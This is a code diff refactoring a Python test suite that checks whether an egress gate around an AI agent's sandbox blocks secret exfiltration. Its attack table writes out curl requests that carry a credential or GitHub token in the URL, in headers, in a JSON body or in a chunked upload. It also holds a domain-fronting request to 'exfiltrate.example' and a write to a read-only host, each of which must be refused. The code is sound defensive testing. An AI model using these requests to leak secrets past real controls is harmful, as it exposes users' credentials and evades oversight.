@@ -10,7 +10,7 @@ import string
 from collections.abc import Callable
 from dataclasses import dataclass
 
-from claude_bottle.verify.probe import Outcome
+from claude_bottle.verify.attack import Attack, Outcome, Verdict
 from claude_bottle.verify.standins import INSPECTED, READ_ONLY, TLS_PORT, Verification, in_bottle, requests_logged
 
 INSPECTION = "inspected https"
@@ -18,19 +18,65 @@ FILLER = 300_000  # bytes of an upload before its secret: many reads and scanner
 
 
 @dataclass(frozen=True)
-class Inspected:
-    """One request the bottle sends with curl to an HTTPS stand-in the gate inspects, and how it must end.
-    ``path`` is the attack's own, so the stand-in's log tells whether it arrived; ``$S`` in ``curl`` is the
-    secret, which reaches the bottle on curl's shell's standard input only."""
+class Inspecting:
+    """What a request inside TLS is sent against: the bottle, and whether the controls reached their
+    stand-ins (if not, a refusal proves nothing)."""
 
-    attack: str
-    expected: str
+    target: Verification
+    controls_arrived: bool = True
+
+
+@dataclass(frozen=True)
+class Sent:
+    """What came of a request: the final response status (None if no answer came), its X-Deny-Reason or
+    curl's last words, whether the stand-in logged it, and the secret it carried."""
+
+    status: int | None
+    reason: str
+    arrived: bool
+    secret: str
+
+    def shown(self) -> str:
+        return f"HTTP {self.status}{f' ({self.reason})' if self.reason else ''}" if self.status else self.reason
+
+
+@dataclass(frozen=True)
+class Inspected(Attack[Inspecting, Sent]):
+    """One request the bottle sends with curl to an HTTPS stand-in the gate inspects; it must be refused with
+    ``status`` and a reason, and never reach the stand-in. ``path`` is the attack's own, so the stand-in's log
+    tells whether it arrived; ``$S`` in ``curl`` is the secret, which reaches the bottle on curl's shell's
+    standard input only."""
+
     host: str
     path: str
     curl: str
     status: int  # the refusal the gate must answer
     secret: Callable[[Verification], str] = lambda target: ""
     upload: bool = False  # curl sends its standard input chunked: FILLER bytes, then the secret on a line
+
+    def run(self, target: Inspecting) -> Sent:
+        secret = self.secret(target.target)
+        status, reason = _curl(target.target, self, secret)
+        return Sent(status, reason, _arrived(target.target, self), secret)
+
+    def judge(self, target: Inspecting, result: Sent) -> Verdict:
+        if result.arrived:
+            return f"the stand-in got it ({result.shown()})", False
+        if result.secret and result.secret in result.reason:
+            return "the refusal quotes the secret", False
+        if not target.controls_arrived:
+            return f"inconclusive: the control did not arrive either ({result.shown()})", False
+        return result.shown(), result.status == self.status and bool(result.reason)
+
+
+@dataclass(frozen=True)
+class Control(Inspected):
+    """A clean request that must reach the stand-in, so that the refusals of the others prove something."""
+
+    def judge(self, target: Inspecting, result: Sent) -> Verdict:
+        if result.arrived:
+            return f"answered {result.status}", True
+        return f"did not arrive ({result.status or result.reason})", False
 
 
 def _github_token() -> str:
@@ -46,24 +92,24 @@ def _credential(target: Verification) -> str:
 
 
 INSPECTED_ATTACKS = (
-    Inspected("the credential in the URL of a request inside TLS", "refused (DLP)", INSPECTED, "/verify/url",
-              '"{url}?q=$S"', 403, _credential),
-    Inspected("the credential in a request header inside TLS", "refused (DLP)", INSPECTED, "/verify/header",
-              '-H "X-Note: $S" {url}', 403, _credential),
-    Inspected("the credential in a JSON body inside TLS", "refused (DLP)", INSPECTED, "/verify/body",
+    Inspected(INSPECTION, "the credential in the URL of a request inside TLS", "refused (DLP)", INSPECTED,
+              "/verify/url", '"{url}?q=$S"', 403, _credential),
+    Inspected(INSPECTION, "the credential in a request header inside TLS", "refused (DLP)", INSPECTED,
+              "/verify/header", '-H "X-Note: $S" {url}', 403, _credential),
+    Inspected(INSPECTION, "the credential in a JSON body inside TLS", "refused (DLP)", INSPECTED, "/verify/body",
               "-H 'Content-Type: application/json' -d \"{{\\\"note\\\": \\\"$S\\\"}}\" {url}", 403, _credential),
-    Inspected("the credential in base64, 300 KB into a chunked upload", "refused (DLP)", INSPECTED,
+    Inspected(INSPECTION, "the credential in base64, 300 KB into a chunked upload", "refused (DLP)", INSPECTED,
               "/verify/upload", "-T - -H 'Transfer-Encoding: chunked' {url}", 403,
               lambda target: _base64(target.credential.secret), upload=True),
-    Inspected("a GitHub token (ghp_...) in a request header inside TLS", "refused (DLP)", INSPECTED,
+    Inspected(INSPECTION, "a GitHub token (ghp_...) in a request header inside TLS", "refused (DLP)", INSPECTED,
               "/verify/github", '-H "Authorization: token $S" {url}', 403, lambda target: _github_token()),
-    Inspected("a Host header naming exfiltrate.example inside the tunnel (domain fronting)", "refused (421)",
-              INSPECTED, "/verify/fronted", "-H 'Host: exfiltrate.example' {url}", 421),
-    Inspected(f"PUT to {READ_ONLY}, which read-only rules cover (a publish)", "refused (rule)", READ_ONLY,
-              "/verify/publish", "-X PUT --data-binary 'a package' {url}", 403),
+    Inspected(INSPECTION, "a Host header naming exfiltrate.example inside the tunnel (domain fronting)",
+              "refused (421)", INSPECTED, "/verify/fronted", "-H 'Host: exfiltrate.example' {url}", 421),
+    Inspected(INSPECTION, f"PUT to {READ_ONLY}, which read-only rules cover (a publish)", "refused (rule)",
+              READ_ONLY, "/verify/publish", "-X PUT --data-binary 'a package' {url}", 403),
 )
-CONTROLS = tuple(Inspected(f"a clean GET inside TLS to {host} (the control)", "reaches the stand-in", host,
-                           "/verify/control", "{url}", 404) for host in (INSPECTED, READ_ONLY))
+CONTROLS = tuple(Control(INSPECTION, f"a clean GET inside TLS to {host} (the control)", "reaches the stand-in",
+                         host, "/verify/control", "{url}", 404) for host in (INSPECTED, READ_ONLY))
 
 
 def _curl(target: Verification, request: Inspected, secret: str = "") -> tuple[int | None, str]:
@@ -83,8 +129,6 @@ def _curl(target: Verification, request: Inspected, secret: str = "") -> tuple[i
     return int(lines[0].split()[1]), reason
 
 
-
-
 def _arrived(target: Verification, request: Inspected) -> bool:
     """Whether the stand-in logged a request to ``request``'s path."""
     return any(logged["target"].startswith(request.path) for logged in requests_logged(target.https[request.host]))
@@ -94,26 +138,6 @@ def inspection_attacks(target: Verification) -> list[Outcome]:
     """Exfiltration inside TLS to allowed hosts, fronting by Host, a write under read-only rules: each must
     be refused by the gate with its reason and never reach the stand-in. The controls must reach it, else
     the refusals prove nothing and each attack counts as a leak."""
-    control_ok = True
-    outcomes = []
-    for control in CONTROLS:
-        status, reason = _curl(target, control)
-        arrived = _arrived(target, control)
-        control_ok &= arrived
-        outcomes.append(Outcome(INSPECTION, control.attack, control.expected,
-                                f"answered {status}" if arrived else f"did not arrive ({status or reason})", arrived))
-    for request in INSPECTED_ATTACKS:
-        secret = request.secret(target)
-        status, reason = _curl(target, request, secret)
-        got = _arrived(target, request)
-        shown = f"HTTP {status}{f' ({reason})' if reason else ''}" if status else reason
-        if got:
-            actual, blocked = f"the stand-in got it ({shown})", False
-        elif secret and secret in reason:
-            actual, blocked = "the refusal quotes the secret", False
-        elif not control_ok:
-            actual, blocked = f"inconclusive: the control did not arrive either ({shown})", False
-        else:
-            actual, blocked = shown, status == request.status and bool(reason)
-        outcomes.append(Outcome(INSPECTION, request.attack, request.expected, actual, blocked))
-    return outcomes
+    controls = [control.outcome(Inspecting(target)) for control in CONTROLS]
+    sent = Inspecting(target, controls_arrived=all(control.blocked for control in controls))
+    return [*controls, *(request.outcome(sent) for request in INSPECTED_ATTACKS)]
